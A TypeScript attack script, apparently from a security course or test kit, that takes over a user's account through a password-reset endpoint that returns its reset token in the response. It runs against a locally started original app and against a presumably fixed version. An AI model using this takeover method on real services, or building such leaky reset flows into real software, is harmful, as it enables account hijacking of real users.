/** Attack on step 17: a stranger who knows nothing but an email takes the account over. It works on classic too. */
import { against, ask, withService } from '../kit.ts'
import { startOriginal } from '../original/app.ts'

/** Takes Bob's account over. Eve holds no cookie and no password. */
async function attack(address: string): Promise<void> {
  await ask(address, 'POST /users', { fields: { email: 'bob@bob.com', password: 'mySuperPwd' } })

  const asked = await ask(address, 'POST /reset_password', { fields: { email: 'bob@bob.com' } })
  const { reset_token = '' } = JSON.parse(asked.body) as { reset_token?: string }
  console.log('Eve asks for a token:', asked.status, reset_token)
  const fields = { email: 'bob@bob.com', reset_token, new_password: 'PwdOfEve' }
  const set = await ask(address, 'PUT /reset_password', { fields })
  console.log('Eve sets a password:', set.status)
  const entered = await ask(address, 'POST /sessions', { fields: { email: 'bob@bob.com', password: 'PwdOfEve' } })
  console.log('Eve logs in as Bob:', entered.status, entered.body)
}

against('the original')
const original = await startOriginal()
await attack(original.address)
original.close()

against('ours')
await withService(attack)
